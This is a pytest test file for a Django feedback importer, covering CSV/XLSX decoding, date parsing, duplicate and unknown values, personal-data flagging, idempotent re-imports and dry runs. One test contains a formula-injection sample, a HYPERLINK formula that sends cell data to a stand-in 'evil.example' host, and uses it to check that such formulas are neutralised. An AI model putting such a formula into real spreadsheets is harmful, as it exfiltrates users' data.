"""The feedback importer's reading and importing: bad input, idempotency, CSV and XLSX."""

import datetime
import io

import pytest
from django.core.files.base import ContentFile
from openpyxl import Workbook

from insight import importing
from insight.importing import dry_run, import_file, import_rows
from insight.importing_files import FileProblem, read_table
from insight.models import CodingEvent, ImportedRow, ImportRun, ImportSource, InsightItem
from portal.neighbourhoods.models import Neighbourhood
from portal.themes.models import Theme
from priorities.models import FeedbackItem

pytestmark = pytest.mark.django_db

HEAD = ["Ref", "Date", "Comment", "Area", "Theme", "Sentiment", "Source details"]
MAPPING = {"external_id": "Ref", "received_on": "Date", "text": "Comment",
           "neighbourhood": "Area", "themes": "Theme", "sentiment": "Sentiment",
           "source_detail": "Source details"}
BOX = {"type": "Polygon", "coordinates": [[[-0.26, 51.53], [-0.25, 51.53], [-0.25, 51.54],
                                           [-0.26, 51.53]]]}


@pytest.fixture(autouse=True)
def uploads_elsewhere(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)  # the files the tests store are thrown away


@pytest.fixture
def place(db):
    return Neighbourhood.objects.create(name="Harlesden", slug="harlesden", code="E05013500",
                                        boundary=BOX)


@pytest.fixture
def themes(db):
    return {slug: Theme.objects.get_or_create(slug=slug, defaults={"name": name})[0]
            for slug, name in (("import-health", "Import health"),
                               ("import-transport", "Import transport"))}


@pytest.fixture
def source(db):
    return ImportSource.objects.create(name="Healthwatch export",
                                       channel=FeedbackItem.HEALTHWATCH)


def csv_file(rows, head=HEAD, encoding="utf-8"):
    lines = [",".join(head)] + [",".join(f'"{cell}"' for cell in row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def xlsx_file(rows, head=HEAD):
    book = Workbook()
    sheet = book.active
    sheet.append(head)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def make_run(source, content, name="feedback.csv", mapping=MAPPING, user=None):
    return ImportRun.objects.create(source=source, file=ContentFile(content, name=name),
                                    original_name=name, mapping=mapping, created_by=user)


def row(ref, text="The bus is late.", date="2026-10-03", area="Harlesden",
        theme="Import transport", sentiment="negative", detail="Library drop-in"):
    return [ref, date, text, area, theme, sentiment, detail]


def problems(run):
    return [f"Row {e['row']}, {e['message']}" if e["row"] else e["message"] for e in run.errors]


# Files that cannot be imported ------------------------------------------------------------

@pytest.mark.parametrize("name, content, words", [
    ("report.csv", b"%PDF-1.7\n1 0 obj<<>>endobj\n", "not a CSV or XLSX file"),
    ("report.xlsx", b"Ref,Date\n1,2026-10-03\n", "not an Excel workbook"),
    ("report.pdf", b"Ref,Date\n1,2026-10-03\n", "not a CSV or XLSX file"),
    ("report.csv", b"", "The file is empty"),
    ("report.csv", b"Ref,Date,Comment\n", "no rows"),
    ("report.xlsx", b"PK\x03\x04 not really a zip", "cannot be read"),
])
def test_files_that_are_not_csv_or_xlsx_or_are_empty_are_refused(name, content, words):
    with pytest.raises(FileProblem) as problem:
        read_table(ContentFile(content, name=name), name)
    assert words in str(problem.value)


def test_windows_1252_keeps_pounds_and_smart_quotes(source, place, themes):
    text = "It costs \u00a33 and they said \u201cno\u201d \u2013 again"
    content = csv_file([row("HW-1", text=text)], encoding="cp1252")
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")
    table = read_table(ContentFile(content, name="f.csv"), "f.csv")
    assert table.encoding == "Windows-1252"
    run = make_run(source, content)
    outcome = import_file(run)
    assert outcome.created == 1
    assert FeedbackItem.objects.get().text == text


def test_utf8_with_a_byte_order_mark_is_read_as_utf8(source, place, themes):
    content = "\ufeff".encode() + csv_file([row("HW-1", text="£5 “fares”")])
    table = read_table(ContentFile(content, name="f.csv"), "f.csv")
    assert table.encoding == "UTF-8" and table.headings[0] == "Ref"


# Rows -----------------------------------------------------------------------------------

def test_dates_in_three_formats_and_a_date_that_does_not_exist(source, place, themes):
    rows = [row("1", date="2026-10-03"), row("2", date="03/10/2026"), row("3", date="3 Oct 2026"),
            row("4", date="31/02/2026"), row("5", date="13/10/2026")]
    run = make_run(source, csv_file(rows))
    outcome = import_file(run)
    assert outcome.created == 4
    assert set(FeedbackItem.objects.values_list("received_on", flat=True)) == {
        datetime.date(2026, 10, 3), datetime.date(2026, 10, 13)}
    assert problems(run) == ["Row 5, Date: “31/02/2026” is not a date."]


def test_us_dates_are_read_month_first_only_when_the_column_says_so(source, place, themes):
    run = make_run(source, csv_file([row("1", date="10/03/2026"), row("2", date="10/31/2026")]))
    dry_run(run)
    assert run.created_count == 2 and "month first (US)" in run.message
    ambiguous = make_run(source, csv_file([row("1", date="10/03/2026")]))
    dry_run(ambiguous)
    assert "read day first (UK)" in ambiguous.message  # said, not silently swapped
    source.date_format = "mdy"
    source.save()
    import_file(make_run(source, csv_file([row("1", date="10/03/2026")])))
    assert FeedbackItem.objects.get().received_on == datetime.date(2026, 10, 3)


def test_duplicate_external_ids_refuse_the_later_rows(source, place, themes):
    run = make_run(source, csv_file([row("HW-7"), row("HW-8"), row("HW-7", text="Again")]))
    outcome = import_file(run)
    assert outcome.created == 2 and outcome.refused == 1
    assert problems(run) == [
        "Row 4, External id: “HW-7” is also the id of row 2; only the first is imported."]


def test_unknown_neighbourhood_or_theme_is_named(source, place, themes):
    run = make_run(source, csv_file([row("1", area="Atlantis"), row("2", theme="Parking"),
                                     row("3", area="e05013500", theme="import-health")]))
    outcome = dry_run(run)
    assert outcome.created == 1 and outcome.refused == 2
    assert problems(run) == [
        "Row 2, Neighbourhood: “Atlantis” is not a neighbourhood (give its name or code).",
        "Row 3, Themes: “Parking” is not a theme."]


def test_formulas_are_kept_as_text_and_counted(source, place, themes):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    run = make_run(source, csv_file([row("1", text=formula.replace('"', '""'))]))
    import_file(run)
    assert FeedbackItem.objects.get().text == formula
    assert "1 cell starts with =, +, - or @ (the first: row 2, Comment)" in run.message
    content = xlsx_file([["2", datetime.date(2026, 10, 3), "=1+1", "Harlesden", "", "", ""]])
    xrun = make_run(source, content, name="f.xlsx")
    import_file(xrun)
    assert FeedbackItem.objects.get(text="=1+1")  # the formula, never its result (2)
    assert "1 cell starts" in xrun.message


def test_personal_data_in_text_is_flagged_and_in_source_details_refused(source, place,
                                                                        themes):
    run = make_run(source, csv_file([
        row("1", text="Call me on 07700 900123 about the bus."),
        row("2", detail="Jo, jo@example.org"),
        row("3", text="The stop at NW10 8SE is broken.")]))
    outcome = import_file(run)
    assert outcome.created == 2 and outcome.flagged == 2
    reasons = dict(InsightItem.objects.values_list("text", "review_reason"))
    assert reasons["Call me on 07700 900123 about the bus."] == \
        "The text may hold a phone number."
    assert reasons["The stop at NW10 8SE is broken."] == "The text may hold a postcode."
    assert problems(run)[0].startswith("Row 3, Source details: The source details hold an "
                                       "e-mail address.")


# Importing ------------------------------------------------------------------------------

def test_xlsx_import_codes_items_and_is_idempotent(source, place, themes, officer):
    rows = [[f"X-{n}", datetime.datetime(2026, 10, n), f"Item {n}", "Harlesden",
             "Import health; import transport", "Mixed", ""] for n in range(1, 4)]
    run = make_run(source, xlsx_file(rows), name="f.xlsx", user=officer)
    assert import_file(run).created == 3
    item = InsightItem.objects.get(text="Item 1")
    assert item.coded_by == officer and item.is_coded and item.sentiment == "mixed"
    assert {t.slug for t in item.themes.all()} == {"import-health", "import-transport"}
    assert CodingEvent.objects.filter(item=item, user=officer).exists()
    again = make_run(source, xlsx_file(rows), name="f.xlsx", user=officer)
    outcome = import_file(again)
    assert (outcome.created, outcome.updated, outcome.unchanged) == (0, 0, 3)
    assert FeedbackItem.objects.count() == 3 and ImportedRow.objects.count() == 3


def test_an_edited_row_updates_its_item(source, place, themes):
    import_file(make_run(source, csv_file([row("1"), row("2")])))
    first = ImportedRow.objects.get(external_id="1").feedback_item_id
    outcome = import_file(make_run(source, csv_file([row("1", text="The bus is very late.",
                                                         theme="Import health"), row("2")])))
    assert (outcome.created, outcome.updated, outcome.unchanged) == (0, 1, 1)
    item = FeedbackItem.objects.get(pk=first)
    assert item.text == "The bus is very late."
    assert [t.slug for t in item.themes.all()] == ["import-health"]
    assert InsightItem.objects.get(origin_id=first).text == "The bus is very late."
    assert FeedbackItem.objects.count() == 2


def test_rows_as_plain_dicts_for_the_benchmark(source, place, themes):
    run = make_run(source, b"unused")
    rows = ({"Ref": str(n), "Date": "2026-10-03", "Comment": f"Said {n}", "Area": "harlesden"}
            for n in range(1200))
    outcome = import_rows(run, rows)
    run.refresh_from_db()
    assert outcome.created == 1200 and run.state == ImportRun.DONE
    assert run.processed_rows == 1200
    assert InsightItem.objects.filter(origin=InsightItem.FEEDBACK).count() == 1200


def test_safeguarding_rows_are_passed_on_after_the_commit(source, place, themes, monkeypatch,
                                                          officer,
                                                          django_capture_on_commit_callbacks):
    told = []
    monkeypatch.setattr(importing, "flag_raised", lambda item, user: told.append((item, user)))
    head = [*HEAD, "Safeguarding"]
    mapping = {**MAPPING, "safeguarding": "Safeguarding"}
    run = make_run(source, csv_file([[*row("1"), "Yes"], [*row("2"), "No"]], head=head),
                   mapping=mapping, user=officer)
    with django_capture_on_commit_callbacks(execute=True):
        import_file(run)
    assert [(item.text, user) for item, user in told] == [("The bus is late.", officer)]
    assert InsightItem.objects.get(pk=told[0][0].pk).safeguarding


def test_a_failure_part_way_keeps_the_rows_done_and_a_rerun_is_safe(source, place, themes,
                                                                     monkeypatch):
    from insight import import_tasks

    monkeypatch.setattr(importing, "BATCH", 2)
    real = importing._remember
    calls = []

    def breaks_second_batch(*args):
        calls.append(1)
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return real(*args)

    monkeypatch.setattr(importing, "_remember", breaks_second_batch)
    run = make_run(source, csv_file([row(str(n)) for n in range(5)]))
    run.state = ImportRun.QUEUED
    run.save()
    import_tasks.run_import.call(run.pk)
    run.refresh_from_db()
    assert run.state == ImportRun.FAILED and "disk full" in run.message
    assert FeedbackItem.objects.count() == 2  # the first batch stays; the second rolled back
    monkeypatch.setattr(importing, "_remember", real)
    import_tasks.run_import.call(run.pk)
    run.refresh_from_db()
    assert run.state == ImportRun.DONE
    assert (run.created_count, run.unchanged_count) == (3, 2)
    assert FeedbackItem.objects.count() == 5


def test_language_sub_themes_and_equality_are_kept_on_the_index_row(
        source, place, themes, officer, django_capture_on_commit_callbacks):
    from insight.models import CodingMatrix, MatrixSubTheme

    matrix = CodingMatrix.objects.create(number=99)
    lifts = MatrixSubTheme.objects.create(matrix=matrix, theme=themes["import-health"],
                                          key="gp-access", name="GP access")
    head = [*HEAD, "Language", "Sub-theme", "Age", "People"]
    mapping = {**MAPPING, "language": "Language", "sub_themes": "Sub-theme",
               "equality:age": "Age", "people_count": "People"}
    rows = [[*row("1", theme="Import health"), "BN", "gp access", "16 to 24", "3"],
            [*row("2"), "en", "", "dancing", "0"]]
    run = make_run(source, csv_file(rows, head=head), mapping=mapping, user=officer)
    outcome = import_file(run)
    assert outcome.created == 1
    assert problems(run) == [
        "Row 3, People count: “0” is not a number of people (1 or more).",
        "Row 3, Age: “dancing” is not one of this question’s answers."]
    item = InsightItem.objects.get()
    assert (item.language, item.equality, item.people_count) == ("bn", {"age": "16_24"}, 3)
    assert list(item.sub_themes.all()) == [lifts] and item.matrix == matrix
    # An officer's later edit of the feedback item keeps what only insight holds.
    feedback = FeedbackItem.objects.get()
    feedback.text = "Edited in the admin"
    with django_capture_on_commit_callbacks(execute=True):
        feedback.save()
    item.refresh_from_db()
    assert (item.text, item.language) == ("Edited in the admin", "bn")


def test_the_dry_run_counts_without_saving(source, place, themes):
    import_file(make_run(source, csv_file([row("1"), row("2")])))
    run = make_run(source, csv_file([row("1"), row("2", text="Changed"), row("3"),
                                     row("4", text="Ring 020 7946 0000"), row("5", area="")]))
    dry_run(run)
    assert (run.created_count, run.updated_count, run.unchanged_count, run.flagged_count) == \
        (2, 1, 1, 1)
    assert run.total_rows == 5 and run.state == ImportRun.CHECKED
    assert problems(run) == ["Row 6, Neighbourhood: The neighbourhood is empty."]
    assert FeedbackItem.objects.count() == 2
